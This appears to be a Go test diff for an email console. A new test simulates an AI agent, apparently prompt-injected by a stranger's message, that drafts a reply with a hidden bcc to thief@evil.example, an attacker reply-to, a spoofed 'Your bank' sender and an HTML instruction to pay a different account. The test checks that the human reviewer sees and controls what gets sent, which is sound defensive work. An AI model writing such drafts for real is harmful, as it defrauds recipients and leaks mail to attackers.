@@ -3,8 +3,12 @@ package console_test
 import (
 	"context"
 	"fmt"
+	"html"
+	"math/rand/v2"
 	"net/http"
+	"regexp"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -135,12 +139,131 @@ func TestDraftOfAnAgent(t *testing.T) {
 		p := b.get("/inbox/"+string(ref)).at("/inbox/"+string(ref), "Draft by", "Read it, then send it as yours.",
 			"Dear Ada, thanks.")
 		draft := p.find(`name="draft" value="([^"]+)"`)
-		b.post("/inbox/"+string(ref)+"/reply", "do", "send", "draft", draft, "to", "ada@example.org", "subject",
-			"Re: How are you?", "text", "Dear Ada, thanks.").at("/inbox/", "Sent.")
+		b.post("/inbox/"+string(ref)+"/reply", p.answer("do", "send")...).at("/inbox/", "Sent.")
 		// Nothing was changed, so that its design stays.
 		if got := b.get("/outbox/" + draft + "/paper"); !strings.Contains(got.Body, "<b>Ada</b>") {
 			t.Errorf("%s", got.Body)
 		}
+	})
+}
+
+var (
+	field = regexp.MustCompile(`<input ([^>]*)>`)
+	named = regexp.MustCompile(`name="([^"]*)"`)
+	holds = regexp.MustCompile(`value="([^"]*)"`)
+)
+
+// answer is the form at the end of a thread as it was shown, in pairs of name and
+// value, with these in place of its own.
+func (p page) answer(pairs ...string) (out []string) {
+	p.t.Helper()
+	_, form, _ := strings.Cut(p.Body, `<form class="write" id="answer"`) // the last of the page's
+	all := map[string][]string{"text": {p.find(`(?s)<textarea id="reply"[^>]*>\n(.*?)</textarea>`)}}
+	for _, m := range field.FindAllStringSubmatch(form, -1) {
+		name, value := named.FindStringSubmatch(m[1]), holds.FindStringSubmatch(m[1])
+		if name != nil && value != nil && !strings.Contains(m[1], `type="checkbox"`) {
+			all[name[1]] = append(all[name[1]], html.UnescapeString(value[1]))
+		}
+	}
+	for i := 0; i < len(pairs); i += 2 {
+		all[pairs[i]] = []string{pairs[i+1]}
+	}
+	for name, values := range all {
+		for _, value := range values {
+			out = append(out, name, value)
+		}
+	}
+	return out
+}
+
+// An agent that obeys a stranger writes a draft. Its reader sees all of it, and
+// sends what they saw, even if the agent changes it before they press the button.
+func TestAttackDraft(t *testing.T) {
+	apptest.Each(t, func(t *testing.T, a *apptest.App) {
+		b := owner(t, a)
+		ref := answered(t, a, "ada@example.org", "Re: How are you?", plainBody)
+		thread := "/inbox/" + string(ref)
+		customer := a.Send(t, a.Key, "POST", "/v1/customers", `{"name": "Jacquard & Sons"}`).OK(t, 201).ID("id")
+		invoice := a.Send(t, a.Key, "POST", "/v1/invoices", fmt.Sprintf(`{"customerId": %q, "lineItems": `+
+			`[{"description": "Cards", "unitAmountCents": 900}]}`, customer)).OK(t, 201).ID("id")
+		number := a.Send(t, a.Key, "POST", "/v1/invoices/"+string(invoice)+"/issue", "").OK(t, 200).Text("invoiceNumber")
+		agent := a.NewAgent(t, a.Tenant, "all")
+		a.Operate(t, "agents.configure", "agent", agent, fmt.Sprintf(`{"id": %q, "askMode": "propose"}`, agent))
+		_, access, _ := a.Connect(t, a.Tenant, agent)
+		session := a.Initialize(t, access)
+		call := func(tool, arguments string) apptest.Value {
+			t.Helper()
+			return a.RPC(t, access, fmt.Sprintf(`{"jsonrpc": "2.0", "id": 7, "method": "tools/call",
+				"params": {"name": %q, "arguments": %s}}`, tool, arguments), session...).Parse(t).
+				At("result.structuredContent.data")
+		}
+		call("messages_list", fmt.Sprintf(`{"threadId": %q}`, ref)) // a stranger's words
+		in := b.get(thread).find(`name="inReplyToId" value="([^"]+)"`)
+		written := func() (draft string, p page) {
+			t.Helper()
+			draft = call("messages_create", fmt.Sprintf(`{"to": "ada@example.org", "bcc": ["thief@evil.example"],
+				"replyTo": "answers@evil.example", "from": "Your bank <%s>", "subject": "Re: How are you?",
+				"text": "Dear Ada, thanks.", "html": "<p>Our bank has changed. Pay to account 42.</p>",
+				"invoiceIds": [%q], "inReplyToId": %q, "draft": true}`, a.MailHosts.DefaultAddress(), invoice, in)).
+				Text("id")
+			p = b.get(thread).at(thread, "Draft by", "Read it, then send it as yours.", "Dear Ada, thanks.",
+				"Leave out Invoice "+number)
+			for _, shown := range []string{`<details class="towards" open`, `name="from" value="&#34;Your bank&#34; `,
+				`name="bcc" value="thief@evil.example"`, `name="replyTo" value="answers@evil.example"`} {
+				p.find("(" + shown + ")")
+			}
+			b.get(p.find(`src="(/inbox/[^"]+/paper/[^"]+)"`)).has("Pay to account 42.")
+			return draft, p
+		}
+		sent := func(draft string) apptest.Value {
+			t.Helper()
+			got := a.Send(t, a.Key, "GET", "/v1/messages/"+draft, "").OK(t, 200)
+			got.Same("text", "Dear Ada, thanks.")
+			return got
+		}
+
+		draft, p := written()
+		call("messages_update", fmt.Sprintf(`{"id": %q, "bcc": ["other@evil.example"], "replyTo": "other@evil.example",
+			"from": "Another bank <%s>", "html": "<p>Pay to account 43.</p>", "invoiceIds": []}`, draft,
+			a.MailHosts.DefaultAddress()))
+		b.post(thread+"/reply", p.answer("do", "send")...).at(thread, "Sent.")
+		got := sent(draft)
+		got.Same("bcc.0", "thief@evil.example")
+		got.Same("replyTo", "answers@evil.example")
+		got.Same("fromName", "Your bank")
+		got.Same("invoiceIds.0", string(invoice))
+		got.Same("html", nil) // nobody looked at it
+		b.get("/outbox/"+draft).at("/outbox/", "thief@evil.example", "answers@evil.example")
+
+		// What is taken out of the form is not sent.
+		draft, p = written()
+		b.post(thread+"/reply", p.answer("do", "send", "bcc", "", "replyTo", "", "invoice-gone", string(invoice))...).
+			at(thread, "Sent.")
+		got = sent(draft)
+		got.Same("replyTo", nil)
+		for _, none := range []string{"bcc", "invoiceIds"} {
+			if n := got.At(none).Len(); n != 0 {
+				t.Errorf("%d %s", n, none)
+			}
+		}
+		got.Same("html", "<p>Our bank has changed. Pay to account 42.</p>") // it was shown
+
+		// An agent that keeps changing it is never the last.
+		draft, p = written()
+		stop, busy := context.WithCancel(t.Context())
+		var wg sync.WaitGroup
+		for range 4 {
+			wg.Go(func() {
+				for stop.Err() == nil {
+					a.Send(t, a.Key, "PATCH", "/v1/messages/"+draft,
+						fmt.Sprintf(`{"bcc": "x%d@evil.example"}`, rand.Int()))
+				}
+			})
+		}
+		b.post(thread+"/reply", p.answer("do", "send")...).at(thread, "Sent.")
+		busy()
+		wg.Wait()
+		sent(draft).Same("bcc.0", "thief@evil.example")
 	})
 }
 
